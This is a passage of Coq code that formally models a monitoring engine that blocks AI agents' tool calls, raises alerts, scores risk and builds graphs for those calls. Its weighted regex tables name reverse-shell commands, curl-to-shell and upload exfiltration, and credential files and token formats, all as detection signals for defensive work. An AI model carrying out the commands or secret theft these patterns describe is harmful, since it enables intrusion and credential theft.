  ret (mkAlert id session_id created created title description severity category
               ST_NEW None policy_id event_ids [] None blocked [] []).

(** The evidence of a policy alert. *)
Definition policy_evidence (alert : Alert) (event : Event) (description : string)
    : M Alert :=
  let* t := now in
  ret (Policies.add_evidence alert t (ev_id event) description
         [ ("tool_name", opt_str (ev_tool_name event));
           ("category", JStr (category_value (ev_category event))) ]
         (head (ev_file_paths event)) (head (ev_commands event))
         (head (ev_urls event))).

(** The policy the loop of [evaluate_pre_tool] stops at. *)
Definition blocking_policy (policies : list Policy) (event : Event) : option Policy :=
  List.find (fun policy => bool_decide (policy_action policy = BLOCK) &&
                           Policies.matches policy (_event_to_dict event))
            policies.

(** [evaluate_pre_tool]: the decision and the event as enriched and
    classified in place. *)
Definition evaluate_pre_tool (event : Event) : M (Decision * Event) :=
  let event := classify (enrich event) in
  fun w =>
    match blocking_policy (_policies w) event with
    | Some policy =>
        (let* alert :=
           new_alert (ev_session_id event)
             (or_str (policy_alert_title policy) ("Blocked: " +:+ policy_name policy))
             (or_str (policy_alert_description policy) (policy_description policy))
             (policy_severity policy) (ev_category event) (Some (policy_id policy))
             [ev_id event] true in
         let* alert :=
           policy_evidence alert event ("Blocked by policy: " +:+ policy_name policy) in
         on_database (fun db => save_alert db alert) ;;
         on_database (fun db => increment_session_alert_count db (ev_session_id event)) ;;
         _broadcast_alert alert ;;
         ret (mkDecision false (Some ("Blocked by policy: " +:+ policy_name policy))
                         None (Some (alert_id alert)),
              event)) w
    | None => (mkDecision true None None None, event, w)
    end.

(** *** Risk scoring *)

Definition _FILE_RISK_SIGNALS : list (string * Z) :=
  [ ("\.ssh/(id_|authorized_keys|known_hosts)", 15);
    ("\.(pem|key|p12|pfx|jks|keystore)$", 12);
    ("\.aws/(credentials|config)", 15);
    ("\.gcloud/|\.azure/|\.kube/config", 12);
    ("\.git-credentials|\.netrc", 12);
    ("\.env(\.\w+)?$", 10);
    ("(secret|credential|password|token)s?(\.\w+)?$", 10);
    ("/etc/(passwd|shadow|sudoers)", 10);
    ("/proc/(self|[0-9]+)/(environ|maps|cmdline)", 8);
    ("(cookies|login\s*data|\.gnupg)", 8) ].

Definition _CMD_RISK_SIGNALS : list (string * Z) :=
  [ ("/dev/tcp/|/dev/udp/", 25);
    ("nc\b.*-e\s+/bin/|ncat\b.*-e\s+/bin/", 25);
    ("mkfifo.*nc\b|socat\b.*exec:", 25);
    ("curl\b.*\|\s*(ba)?sh|wget\b.*\|\s*(ba)?sh", 20);
    ("curl\b.*-o\s+\S+.*&&.*chmod\s+\+x", 20);
    ("curl\b.*(-F|--data|--upload-file)\s+.*@", 18);
    ("curl\b.*\|\s*base64", 15);
    ("base64\b.*(-d|--decode|encode)", 10);
    ("\beval\b.*\$\(|`.*`.*\beval\b", 12);
    ("python[23]?\s+-c\s+.*\b(requests|urllib|socket)\b", 12);
    ("node\s+-e\s+.*\bfetch\b", 10);
    ("ruby\s+-e\s+.*\bNet::HTTP\b", 10);
    ("\bsudo\b.*chmod\s+[0-7]*[4-7][0-7]{2}|chown\s+root", 8);
    ("\bchmod\b.*\+s\b", 10);
    ("\bwhoami\b|\bid\b|\buname\b.*-a", 3) ].

Definition _SEARCH_RISK_SIGNALS : list (string * Z) :=
  [ ("password|passwd|api_key|api.key|secret.key|token", 8);
    ("AKIA[0-9A-Z]|aws_secret|aws_access", 12);
    ("BEGIN\s+(RSA|DSA|EC|OPENSSH)\s+PRIVATE", 15);
    ("ghp_[A-Za-z0-9]|github_pat_", 10) ].

(** The flag says whether the pattern is compiled with [re.I]. *)
Definition _URL_RISK_SIGNALS : list (string * bool * Z) :=
  [ ("https?://(?!127\.|0\.|10\.|192\.168\.|172\.(1[6-9]|2|3[01])\.)\d+\.\d+\.\d+\.\d+",
     false, 8);
    ("(pastebin|requestbin|ngrok|burp|interact\.sh|oast)", true, 12) ].

(** A loop with [break]: the weight of the first signal found in [text]. *)
Definition first_signal (signals : list (string * bool * Z)) (text : string) : Z :=
  match List.find (fun '(pattern, ignorecase, _) => re_found ignorecase pattern text)
                  signals with
  | Some (_, _, weight) => weight
  | None => 0
  end.

(** A loop without [break]: the weights of all the signals found in [text]. *)
Definition all_signals (signals : list (string * Z)) (text : string) : Z :=
  fold_left (fun score '(pattern, weight) =>
               if re_found true pattern text then score + weight else score)
            signals 0.

Definition with_ignorecase (signals : list (string * Z)) : list (string * bool * Z) :=
  map (fun '(pattern, weight) => (pattern, true, weight)) signals.

Definition sum_over {A} (f : A -> Z) (xs : list A) : Z :=
  fold_left (fun score x => score + f x) xs 0.

Definition local_ip_prefixes : list string :=
  ["127."; "0."; "10."; "192.168."; "172."].

(** What one extracted address adds to the score. *)
Definition ip_risk (ip : string) : Z :=
  if negb (Str.startswith_any ip local_ip_prefixes) then 6 else 0.

Definition search_risk (event : Event) : Z :=
  match ev_tool_input event with
  | Some ((_ :: _) as tool_input) =>
      if bool_decide (ev_tool_name event = Some "Grep") ||
         bool_decide (ev_tool_name event = Some "Search")
      then all_signals _SEARCH_RISK_SIGNALS (default "" (dict_get tool_input "pattern"))
      else 0
  | _ => 0
  end.

Definition _compute_event_risk (event : Event) : Z :=
  sum_over (first_signal (with_ignorecase _FILE_RISK_SIGNALS)) (ev_file_paths event)
  + sum_over (all_signals _CMD_RISK_SIGNALS) (ev_commands event)
  + search_risk event
  + sum_over (first_signal _URL_RISK_SIGNALS) (ev_urls event)
  + sum_over ip_risk (ev_ip_addresses event).

Definition _update_risk_score (event : Event) : M unit :=
  let risk_delta := _compute_event_risk event in
  if 0 <? risk_delta
  then on_database (fun db => increment_session_risk_score db (ev_session_id event) risk_delta)
  else ret tt.

(** *** The graph builder *)

(** [GraphNode(node_type=..., label=..., value=..., session_ids=[sid],
    event_ids=[eid])]: the other fields take their defaults. *)
Definition new_node (node_type : NodeType) (label value sid : string) (eid : UUID)
    : M GraphNode :=
  let* id := uuid4 in
  let* first_seen := now in
  let* last_seen := now in
  ret (mkNode id node_type label value first_seen last_seen 1 0 [sid] [eid] 1 None []).

Definition new_edge (source_id target_id : UUID) (relation : EdgeRelation)
    (sid : string) (eid : UUID) : M GraphEdge :=
  let* id := uuid4 in
  let* first_seen := now in
  let* last_seen := now in
  ret (mkEdge id source_id target_id relation first_seen last_seen 1 [sid] [eid] 1
              None []).

(** [_UUID(db.save_graph_node(node))] *)
Definition db_save_graph_node (node : GraphNode) : M UUID :=
  fun w =>
    let '(db, id) := save_graph_node (database w) node in
    (id, mkEngine db (_event_queue w) (_policies w) (_sequence_tracker w)
                  (next_uuid w) (clock w) (broadcasts w)).

(** A node built and upserted; the id of its row. *)
Definition upsert_node (node_type : NodeType) (label value sid : string) (eid : UUID)
    : M UUID :=
  let* node := new_node node_type label value sid eid in
  db_save_graph_node node.

(** An edge built and upserted. *)
Definition upsert_edge (source_id target_id : UUID) (relation : EdgeRelation)
    (sid : string) (eid : UUID) : M unit :=
  let* edge := new_edge source_id target_id relation sid eid in
  on_database (fun db => save_graph_edge db edge).

Definition file_relation (category : EventCategory) : EdgeRelation :=
  if bool_decide (category = FILE_WRITE) then WRITES
  else if bool_decide (category = FILE_DELETE) then DELETES
  else READS.

Definition role_relation (role : string) : EdgeRelation :=
  if String.eqb role "writes" then WRITES
  else if String.eqb role "executes" then EXECUTES
  else READS.

(** [cmd.strip().split()[0] if cmd.strip() else "unknown"], then its
    [basename]. *)
Definition command_base (cmd : string) : string :=
  Str.basename (default "unknown" (Str.first_token cmd)).

(** [cmd[:60] + ("..." if len(cmd) > 60 else "")] *)
Definition short_label (cmd : string) : string :=
  Str.take 60 cmd +:+ (if (60 <? String.length cmd)%nat then "..." else "").

Definition _build_graph (event : Event) : M unit :=
  let sid := ev_session_id event in
  let eid := ev_id event in
  (* 1) session node *)
  let* session_actual_id := upsert_node NT_SESSION (Str.take 16 sid) sid sid eid in
  (* 2) tool node *)
  let* parent_id :=
    match ev_tool_name event with
    | Some tool_name =>
        if String.eqb tool_name "" then ret session_actual_id
        else
          let* tool_actual_id :=
            upsert_node NT_TOOL tool_name (tool_name +:+ ":" +:+ sid) sid eid in
          upsert_edge session_actual_id tool_actual_id USES sid eid ;;
          ret tool_actual_id
    | None => ret session_actual_id
    end in
  (* 3) file nodes, for events without commands *)
  match ev_commands event with
  | [] =>
      for_each (ev_file_paths event) (fun fp =>
        let* file_actual_id :=
          upsert_node NT_FILE (or_str (Str.basename fp) fp) fp sid eid in
        upsert_edge parent_id file_actual_id (file_relation (ev_category event)) sid eid)
  | _ => ret tt
  end ;;
  (* 4) command group and process nodes *)
  let* process_actual_ids :=
    for_collect (ev_commands event) (fun cmd =>
      let base := command_base cmd in
      let* group_actual_id :=
        upsert_node NT_COMMAND base ("cmdgroup:" +:+ base +:+ ":" +:+ sid) sid eid in
      upsert_edge parent_id group_actual_id EXECUTES sid eid ;;
      let* cmd_actual_id := upsert_node NT_PROCESS (short_label cmd) cmd sid eid in
      upsert_edge group_actual_id cmd_actual_id EXECUTES sid eid ;;
      for_each (extract_command_file_refs cmd) (fun ref =>
        let* file_actual_id :=
          upsert_node NT_FILE (or_str (Str.basename (ref_path ref)) (ref_path ref))
                      (ref_path ref) sid eid in
        upsert_edge cmd_actual_id file_actual_id (role_relation (ref_role ref)) sid eid) ;;
      ret cmd_actual_id) in
  (* 5) URL nodes *)
  for_each (ev_urls event) (fun url =>
    let domain := match url_hostname url with
                  | Some h => or_str h url
                  | None => url
                  end in
    let* domain_actual_id := upsert_node NT_URL domain url sid eid in
    match process_actual_ids with
    | [] => upsert_edge parent_id domain_actual_id CONNECTS_TO sid eid
    | _ => for_each process_actual_ids (fun pid =>
             upsert_edge pid domain_actual_id CONNECTS_TO sid eid)
    end).

(** *** Statements about the engine *)

(** A policy the loop of [evaluate_pre_tool] stops at for this event. *)
Definition blocks (policy : Policy) (event : Event) : bool :=
  bool_decide (policy_action policy = BLOCK) &&
  Policies.matches policy (_event_to_dict event).

(** The alert [evaluate_pre_tool] builds for a policy and an event, in an
    engine whose next UUID is [id] and whose clock shows [t]. *)
Definition block_alert (policy : Policy) (event : Event) (id : UUID) (t : datetime)
    : Alert :=
  mkAlert id (ev_session_id event) t t
    (or_str (policy_alert_title policy) ("Blocked: " +:+ policy_name policy))
    (or_str (policy_alert_description policy) (policy_description policy))
    (policy_severity policy) (ev_category event) ST_NEW None
    (Some (policy_id policy)) [ev_id event]
    [mkEvidence (ev_id event) (t + 1)
       ("Blocked by policy: " +:+ policy_name policy)
       [ ("tool_name", opt_str (ev_tool_name event));
         ("category", JStr (category_value (ev_category event))) ]
       (head (ev_file_paths event)) (head (ev_commands event))
       (head (ev_urls event))]
    None true [] [].

(** The weights of the signals found in a text, in table order. *)
Definition found_weights (signals : list (string * Z)) (text : string) : list Z :=
  map snd (List.filter (fun s => re_found true (fst s) text) signals).

End WithLibraries.

(** The reading of the specification's wording for addresses: the decimal
    value of a run of digits, the four octets of a dotted quad, and the
    private (10/8, 172.16/12, 192.168/16) and loopback (127/8) ranges. *)
Fixpoint parse_decimal (acc : nat) (s : string) : option nat :=
  match s with
  | EmptyString => Some acc
  | String c s' =>
      let n := nat_of_ascii c in
      if ((48 <=? n) && (n <=? 57))%nat then parse_decimal (10 * acc + (n - 48)) s'
      else None
  end.

Definition spec_octets (ip : string) : option (nat * nat) :=
  match Py.split "."%char ip with
  | [a; b; c; d] =>
      match parse_decimal 0 a, parse_decimal 0 b with
      | Some x, Some y => Some (x, y)
      | _, _ => None
      end
  | _ => None
  end.

Definition spec_private_or_loopback (ip : string) : bool :=
  match spec_octets ip with
  | Some (a, b) =>
      ((a =? 10) || (a =? 127) || ((a =? 192) && (b =? 168)) ||
       ((a =? 172) && (16 <=? b) && (b <=? 31)))%nat
  | None => false
  end.

(** An event that carries nothing but extracted addresses. *)
Definition ip_only_event (ips : list string) : Event :=
  mkEvent 1%N "s1" 0 "PostToolUse" None None None UNKNOWN INFO [] [] [] ips
          false true None.

(** *** Statements about the graph builder *)

(** The uniqueness constraints of the two graph tables. *)
Definition unique_keys (db : Database) : Prop :=
  List.NoDup (map node_key (graph_nodes db)) /\
  List.NoDup (map edge_key (graph_edges db)).

(** A node row after more traversals of the same event: nothing changes
    but [last_seen], [access_count] and [size], which do not go back. *)
Definition node_advanced (n n' : GraphNode) : Prop :=
  node_id n' = node_id n /\ node_type n' = node_type n /\
  node_label n' = node_label n /\ node_value n' = node_value n /\
  node_first_seen n' = node_first_seen n /\
  node_alert_count n' = node_alert_count n /\
  node_session_ids n' = node_session_ids n /\
  node_event_ids n' = node_event_ids n /\
  node_color n' = node_color n /\ node_metadata n' = node_metadata n /\
  node_last_seen n <= node_last_seen n' /\
  node_access_count n <= node_access_count n' /\
  node_size n <= node_size n'.

(** An edge row after more traversals of the same event: nothing changes
    but [last_seen], [count] and [weight], which do not go back. *)
Definition edge_advanced (e e' : GraphEdge) : Prop :=
  edge_id e' = edge_id e /\ edge_source_id e' = edge_source_id e /\
  edge_target_id e' = edge_target_id e /\ edge_relation e' = edge_relation e /\
  edge_first_seen e' = edge_first_seen e /\
  edge_session_ids e' = edge_session_ids e /\
  edge_event_ids e' = edge_event_ids e /\
  edge_color e' = edge_color e /\ edge_metadata e' = edge_metadata e /\
  edge_last_seen e <= edge_last_seen e' /\
  edge_count e <= edge_count e' /\
  edge_weight e <= edge_weight e'.

Section Replay.
Variables (sid : string) (eid : UUID).

(** A row written by the builder for the event of session [sid] and id
    [eid], at a time the clock has passed. *)
Definition marked (w : Engine) (n : GraphNode) : Prop :=
  node_session_ids n = [sid] /\ node_event_ids n = [eid] /\ node_last_seen n < clock w.

Definition edge_marked (w : Engine) (e : GraphEdge) : Prop :=
  edge_session_ids e = [sid] /\ edge_event_ids e = [eid] /\ edge_last_seen e < clock w.

(** From [a] to [d] rows are only added or written again for the event. *)
Definition grows (a d : Engine) : Prop :=
  clock a <= clock d /\
  (forall n, In n (graph_nodes (database a)) ->
     exists n', In n' (graph_nodes (database d)) /\ node_key n' = node_key n /\
                node_id n' = node_id n /\ (marked a n -> marked d n')) /\
  (forall e, In e (graph_edges (database a)) ->
     exists e', In e' (graph_edges (database d)) /\ edge_key e' = edge_key e /\
                (edge_marked a e -> edge_marked d e')).

(** [b] holds the rows of [d], advanced. *)
Definition follows (d b : Engine) : Prop :=
  clock d <= clock b /\
  unique_keys (database b) /\
  Forall2 (fun n n' => node_advanced n n' /\
                       (node_last_seen n' = node_last_seen n \/ node_last_seen n' < clock b))
          (graph_nodes (database d)) (graph_nodes (database b)) /\
  Forall2 (fun e e' => edge_advanced e e' /\
                       (edge_last_seen e' = edge_last_seen e \/ edge_last_seen e' < clock b))
          (graph_edges (database d)) (graph_edges (database b)).

(** A computation made of upserts for the event: it only grows the graph,
    keeps the keys unique, and run again on a store that holds what it
    wrote it returns the same value and only advances rows. *)
Definition graph_op {A} (p : M A) : Prop :=
  (forall a x a', p a = (x, a') ->
     grows a a' /\ (unique_keys (database a) -> unique_keys (database a'))) /\
  (forall a x a' d b, p a = (x, a') -> grows a' d -> follows d b ->
     exists b', p b = (x, b') /\ follows d b').

(** The node [upsert_node] builds in an engine. *)
Definition built_node (ty : NodeType) (label value : string) (a : Engine) : GraphNode :=
  mkNode (next_uuid a) ty label value (clock a) (clock a + 1) 1 0 [sid] [eid] 1 None [].

Definition built_edge (s t : UUID) (r : EdgeRelation) (a : Engine) : GraphEdge :=
  mkEdge (next_uuid a) s t r (clock a) (clock a + 1) 1 [sid] [eid] 1 None [].

End Replay.

(** *** Policies after the fact *)

Section Alerting.
Context `{PyRe} `{PyUrl} `{ConditionEval}.

(** What [_evaluate_policies] does for a policy with action ALERT that
    matches: an alert with one evidence item, saved, counted and
    broadcast. *)
Definition alert_for_policy (policy : Policy) (event : Event) : M unit :=
  let* alert :=
    new_alert (ev_session_id event)
      (or_str (policy_alert_title policy) ("Alert: " +:+ policy_name policy))
      (or_str (policy_alert_description policy) (policy_description policy))
      (policy_severity policy) (ev_category event) (Some (policy_id policy))
      [ev_id event] false in
  let* alert := policy_evidence alert event ("Matched policy: " +:+ policy_name policy) in
  on_database (fun db => save_alert db alert) ;;
  on_database (fun db => increment_session_alert_count db (ev_session_id event)) ;;
  _broadcast_alert alert.

(** One turn of the loop of [_evaluate_policies]; a LOG policy that
    matches is only written to the log. *)
Definition evaluate_policy (event : Event) (event_data : PyDict JVal)
    (policy : Policy) : M unit :=
  if bool_decide (policy_action policy = BLOCK) then ret tt
  else if Policies.matches policy event_data then
    if bool_decide (policy_action policy = ALERT) then alert_for_policy policy event
    else ret tt
  else ret tt.

Definition _evaluate_policies (event : Event) : M unit :=
  fun w => for_each (_policies w) (evaluate_policy event (_event_to_dict event)) w.

(** The alert [alert_for_policy] builds, in an engine whose next UUID is
    [id] and whose clock shows [t]. *)
Definition policy_alert (policy : Policy) (event : Event) (id : UUID) (t : datetime)
    : Alert :=
  mkAlert id (ev_session_id event) t t
    (or_str (policy_alert_title policy) ("Alert: " +:+ policy_name policy))
    (or_str (policy_alert_description policy) (policy_description policy))
    (policy_severity policy) (ev_category event) ST_NEW None
    (Some (policy_id policy)) [ev_id event]
    [mkEvidence (ev_id event) (t + 1)
       ("Matched policy: " +:+ policy_name policy)
       [ ("tool_name", opt_str (ev_tool_name event));
         ("category", JStr (category_value (ev_category event))) ]
       (head (ev_file_paths event)) (head (ev_commands event))
       (head (ev_urls event))]
    None false [] [].

(** A policy [_evaluate_policies] raises an alert for. *)
Definition alerting (event : Event) (policy : Policy) : bool :=
  bool_decide (policy_action policy = ALERT) &&
  Policies.matches policy (_event_to_dict event).

End Alerting.

(** What a computation leaves alone when it only writes to the graph
    tables: the other tables, the queue, the policy cache, the tracker and
    the broadcasts; ids, clock and graph tables only move forward. *)
Definition outside_graph (w w' : Engine) : Prop :=
  sessions (database w') = sessions (database w) /\
  events (database w') = events (database w) /\
  alerts (database w') = alerts (database w) /\
  policies (database w') = policies (database w) /\
  _event_queue w' = _event_queue w /\
  _policies w' = _policies w /\
  _sequence_tracker w' = _sequence_tracker w /\
  broadcasts w' = broadcasts w /\
  (next_uuid w <= next_uuid w')%N /\
  clock w <= clock w' /\
  (length (graph_nodes (database w)) <= length (graph_nodes (database w')))%nat /\
  (length (graph_edges (database w)) <= length (graph_edges (database w')))%nat.

(** Every run of [p] relates the engine before and after by [R]. *)
Definition keeps {A} (R : Engine -> Engine -> Prop) (p : M A) : Prop :=
  forall w x w', p w = (x, w') -> R w w'.

(** [Decision.to_hook_response] ([models/events.py]) *)
Definition to_hook_response (d : Decision) : PyDict JVal :=
  if allow d then
    match modified_input d with
    | Some ((_ :: _) as updated) =>
        [ ("hookSpecificOutput",
           JDict [ ("hookEventName", JStr "PreToolUse");
                   ("permissionDecision", JStr "allow");
                   ("updatedInput", JDict updated) ]) ]
    | _ => []
    end
  else
    [ ("hookSpecificOutput",
       JDict [ ("hookEventName", JStr "PreToolUse");
               ("permissionDecision", JStr "deny");
               ("permissionDecisionReason",
                JStr (or_str (default "" (reason d)) "Blocked by AgentsLeak policy")) ]) ].

(** *** Sequences and the processing of one event *)

(** [alert.tags = ...] *)
Definition set_tags (alert : Alert) (tags : list string) : Alert :=
  mkAlert (alert_id alert) (alert_session_id alert) (alert_created_at alert)
    (alert_updated_at alert) (alert_title alert) (alert_description alert)
    (alert_severity alert) (alert_category alert) (alert_status alert)
    (alert_assigned_to alert) (alert_policy_id alert) (alert_event_ids alert)
    (alert_evidence alert) (alert_action_taken alert) (alert_blocked alert)
    tags (alert_metadata alert).

(** [(d.get(k) or [None])[0] if isinstance(d.get(k), list) else None], for
    the lists of strings that [_event_to_dict] puts in the data of an
    event: the first string of the list, if any.  The evidence model holds
    strings only; a first element that is not a string is not kept. *)
Definition first_item (d : PyDict JVal) (k : string) : option string :=
  match dict_get d k with
  | Some (JList (JStr s :: _)) => Some s
  | _ => None
  end.

(** [event.processed = True; event.enriched = True] *)
Definition set_done (e : Event) : Event :=
  mkEvent (ev_id e) (ev_session_id e) (ev_timestamp e) (ev_hook_type e)
    (ev_tool_name e) (ev_tool_input e) (ev_tool_result e) (ev_category e)
    (ev_severity e) (ev_file_paths e) (ev_commands e) (ev_urls e)
    (ev_ip_addresses e) true true (ev_raw_payload e).

Definition _broadcast_event (event : Event) : M unit := broadcast (BroadcastEvent event).

Section Processing.
Context `{PyRe} `{PyUrl} `{ConditionEval}.

(** One turn of the evidence loop of [_evaluate_sequences]; [i] counts
    from 0. *)
Definition step_evidence (rule : SequenceRule) (alert : Alert) (i : nat)
    (step : SequenceStep) (matched_event : _BufferedEvent) : M Alert :=
  let step_data := be_data matched_event in
  let* t := now in
  ret (Policies.add_evidence alert t (be_event_id matched_event)
         ("Step " +:+ Py.int_str (Z.of_nat i + 1) +:+ ": " +:+ step_label step)
         [ ("tool_name", default (JStr "") (dict_get step_data "tool_name"));
           ("category", default (JStr "") (dict_get step_data "category"));
           ("sequence_rule", JStr (rule_id rule)) ]
         (first_item step_data "file_paths") (first_item step_data "commands")
         (first_item step_data "urls")).

(** [for i, (step, matched_event) in enumerate(zip(...))] *)
Fixpoint add_step_evidence (rule : SequenceRule) (i : nat)
    (pairs : list (SequenceStep * _BufferedEvent)) (alert : Alert) : M Alert :=
  match pairs with
  | [] => ret alert
  | (step, matched_event) :: rest =>
      let* alert := step_evidence rule alert i step matched_event in
      add_step_evidence rule (S i) rest alert
  end.

(** The body of the loop of [_evaluate_sequences] over the matches. *)
Definition sequence_alert (event : Event) (rule : SequenceRule)
    (matching_events : list _BufferedEvent) : M unit :=
  let* alert :=
    new_alert (ev_session_id event)
      (or_str (rule_alert_title rule) ("Sequence: " +:+ rule_name rule))
      (or_str (rule_alert_description rule) (rule_description rule))
      (rule_severity rule) (ev_category event) None
      (map be_event_id matching_events) false in
  let* alert :=
    add_step_evidence rule 0 (zip (rule_steps rule) matching_events) alert in
  let alert := set_tags alert (rule_tags rule ++ ["sequence-detection"]) in
  on_database (fun db => save_alert db alert) ;;
  on_database (fun db => increment_session_alert_count db (ev_session_id event)) ;;
  _broadcast_alert alert.

Definition _evaluate_sequences (event : Event) : M unit :=
  fun w =>
    let tracked :=
      track_event (_sequence_tracker w) (ev_id event) (ev_session_id event)
                  (ev_timestamp event) (_event_to_dict event) in
    for_each (snd tracked)
             (fun m => sequence_alert event (fst m) (snd m))
             (mkEngine (database w) (_event_queue w) (_policies w) (fst tracked)
                       (next_uuid w) (clock w) (broadcasts w)).

(** [_process_event]; the event is returned as the loop leaves it. *)
Definition _process_event (event : Event) : M Event :=
  let event := enrich event in
  let event := classify event in
  (if String.eqb (ev_hook_type event) "PreToolUse" then ret tt
   else _evaluate_policies event) ;;
  _evaluate_sequences event ;;
  _update_risk_score event ;;
  _build_graph event ;;
  let event := set_done event in
  on_database (fun db => save_event db event) ;;
  _broadcast_event event ;;
  ret event.

End Processing.

(** *** Statements about the processing of an event *)

(** The alert the evidence loop of [_evaluate_sequences] leaves, when the
    clock shows [t] at its start. *)
Fixpoint steps_added (rule : SequenceRule) (i : nat)
    (pairs : list (SequenceStep * _BufferedEvent)) (t : datetime) (alert : Alert)
    : Alert :=
  match pairs with
  | [] => alert
  | (step, matched_event) :: rest =>
      let step_data := be_data matched_event in
      steps_added rule (S i) rest (t + 1)
        (Policies.add_evidence alert t (be_event_id matched_event)
           ("Step " +:+ Py.int_str (Z.of_nat i + 1) +:+ ": " +:+ step_label step)
           [ ("tool_name", default (JStr "") (dict_get step_data "tool_name"));
             ("category", default (JStr "") (dict_get step_data "category"));
             ("sequence_rule", JStr (rule_id rule)) ]
           (first_item step_data "file_paths") (first_item step_data "commands")
           (first_item step_data "urls"))
  end.

(** The alert [_evaluate_sequences] builds for a match, in an engine whose
    next UUID is [id] and whose clock shows [t]. *)
Definition sequence_alert_of (event : Event) (rule : SequenceRule)
    (matching_events : list _BufferedEvent) (id : UUID) (t : datetime) : Alert :=
  set_tags
    (steps_added rule 0 (zip (rule_steps rule) matching_events) (t + 1)
       (mkAlert id (ev_session_id event) t t
          (or_str (rule_alert_title rule) ("Sequence: " +:+ rule_name rule))
          (or_str (rule_alert_description rule) (rule_description rule))
          (rule_severity rule) (ev_category event) ST_NEW None None
          (map be_event_id matching_events) [] None false [] []))
    (rule_tags rule ++ ["sequence-detection"]).

(** The list under [k], if there is one, starts with a string. *)
Definition string_head (d : PyDict JVal) (k : string) : Prop :=
  match dict_get d k with
  | Some (JList (x :: _)) => exists s, x = JStr s
  | _ => True
  end.

(** The buffers hold what [_event_to_dict] makes of events: lists of
    strings for the paths, commands and URLs. *)
Definition evidence_ready (t : SequenceTracker) : Prop :=
  forall sid buf e, _buffers t !! sid = Some buf -> In e buf ->
    string_head (be_data e) "file_paths" /\
    string_head (be_data e) "commands" /\
    string_head (be_data e) "urls".

(** No alert of the store has an id that [uuid4] is still to draw. *)
Definition alert_ids_drawn (w : Engine) : Prop :=
  forall a, In a (alerts (database w)) -> (alert_id a < next_uuid w)%N.

(** What a stage of [_process_event] that raises the alerts [new] for
    [event] does to the engine: the alerts are appended to the table with
    ids drawn meanwhile, counted on the rows of the session and broadcast
    in order; the queue, the policy cache, the events, the policies and
    the graph are as before. *)
Definition raises (event : Event) (w w' : Engine) (new : list Alert) : Prop :=
  alerts (database w') = alerts (database w) ++ new /\
  Forall (fun a => (next_uuid w <= alert_id a < next_uuid w')%N /\
                   alert_session_id a = ev_session_id event /\
                   alert_category a = ev_category event /\
                   alert_blocked a = false)
         new /\
  sessions (database w') =
    map (fun s => if String.eqb (s_session_id s) (ev_session_id event)
                  then Nat.iter (length new) bump_alert_count s else s)
        (sessions (database w)) /\
  broadcasts w' = broadcasts w ++ map BroadcastAlert new /\
  (next_uuid w <= next_uuid w')%N /\
  _event_queue w' = _event_queue w /\ _policies w' = _policies w /\
  events (database w') = events (database w) /\
  policies (database w') = policies (database w) /\
  graph_nodes (database w') = graph_nodes (database w) /\
  graph_edges (database w') = graph_edges (database w).

End Engine.

(** ** The collector ([collector/routes.py])

    The handlers run on the store of the engine.  A request is what the
    handlers read of it: its headers, looked up by name. *)

Module Collector.
Import Store Engine.

(** [HookPayload] ([models/events.py]); [hp_extra] holds the fields the
    model allows beyond the declared ones. *)
Record HookPayload := mkPayload {
  hp_session_id : string;
  hp_session_cwd : option string;
  hp_hook_type : string;
  hp_tool_name : option string;
  hp_tool_input : option (PyDict string);
  hp_tool_result : option (PyDict JVal);
  hp_tool_use_id : option string;
  hp_transcript_path : option string;
  hp_permission_mode : option string;
  hp_timestamp : datetime;
  hp_query : option string;
  hp_parent_session_id : option string;
  hp_endpoint_hostname : option string;
  hp_endpoint_user : option string;
  hp_session_source : option string;
  hp_extra : PyDict JVal
}.

Record Request := mkRequest {
  header : string -> option string
}.

Definition opt_dict {V} (f : V -> JVal) (d : option (PyDict V)) : JVal :=
  match d with
  | Some kv => JDict (map (fun p => (fst p, f (snd p))) kv)
  | None => JNull
  end.

(** [payload.model_dump()]: the declared fields in order, then the extra
    ones; the timestamp is kept as a number. *)
Definition model_dump (p : HookPayload) : PyDict JVal :=
  [ ("session_id", JStr (hp_session_id p));
    ("session_cwd", opt_str (hp_session_cwd p));
    ("hook_type", JStr (hp_hook_type p));
    ("tool_name", opt_str (hp_tool_name p));
    ("tool_input", opt_dict JStr (hp_tool_input p));
    ("tool_result", opt_dict id (hp_tool_result p));
    ("tool_use_id", opt_str (hp_tool_use_id p));
    ("transcript_path", opt_str (hp_transcript_path p));
    ("permission_mode", opt_str (hp_permission_mode p));
    ("timestamp", JNum (hp_timestamp p));
    ("query", opt_str (hp_query p));
    ("parent_session_id", opt_str (hp_parent_session_id p));
    ("endpoint_hostname", opt_str (hp_endpoint_hostname p));
    ("endpoint_user", opt_str (hp_endpoint_user p));
    ("session_source", opt_str (hp_session_source p)) ] ++ hp_extra p.

(** [Event.from_hook_payload] ([models/events.py]): a fresh id, the other
    fields at their defaults. *)
Definition from_hook_payload (payload : HookPayload) : M Event :=
  let* id := uuid4 in
  ret (mkEvent id (hp_session_id payload) (hp_timestamp payload)
         (hp_hook_type payload) (hp_tool_name payload) (hp_tool_input payload)
         (hp_tool_result payload) UNKNOWN INFO [] [] [] [] false false
         (Some (model_dump payload))).

(** [event.hook_type = ...] *)
Definition set_hook_type (e : Event) (hook_type : string) : Event :=
  mkEvent (ev_id e) (ev_session_id e) (ev_timestamp e) hook_type
    (ev_tool_name e) (ev_tool_input e) (ev_tool_result e) (ev_category e)
    (ev_severity e) (ev_file_paths e) (ev_commands e) (ev_urls e)
    (ev_ip_addresses e) (ev_processed e) (ev_enriched e) (ev_raw_payload e).

(** Truth value of an optional string. *)
Definition given_str (x : option string) : bool :=
  match x with
  | Some s => negb (String.eqb s "")
  | None => false
  end.

Definition _resolve_endpoint_fields (payload : HookPayload) (request : option Request)
    : option string * option string :=
  let hostname := hp_endpoint_hostname payload in
  let user := hp_endpoint_user payload in
  match request with
  | Some r =>
      (if given_str hostname then hostname else header r "X-Endpoint-Hostname",
       if given_str user then user else header r "X-Endpoint-User")
  | None => (hostname, user)
  end.

Definition _resolve_session_source (payload : HookPayload) (request : option Request)
    : string :=
  let source := hp_session_source payload in
  let source :=
    if given_str source then source
    else match request with
         | Some r => header r "X-AgentsLeak-Source"
         | None => source
         end in
  if given_str source then default "" source else "claude_code".

(** [Session(session_id=..., cwd=..., ...)]: a fresh id; [started_at] is
    the clock unless given; counters and [risk_score] at 0, status
    active. *)
Definition new_session (payload : HookPayload) (started_at : option datetime)
    (request : option Request) : M Session :=
  let '(hostname, user) := _resolve_endpoint_fields payload request in
  let source := _resolve_session_source payload request in
  let* id := uuid4 in
  let* started := match started_at with Some t => ret t | None => now end in
  ret (mkSession id (hp_session_id payload) started None (hp_session_cwd payload)
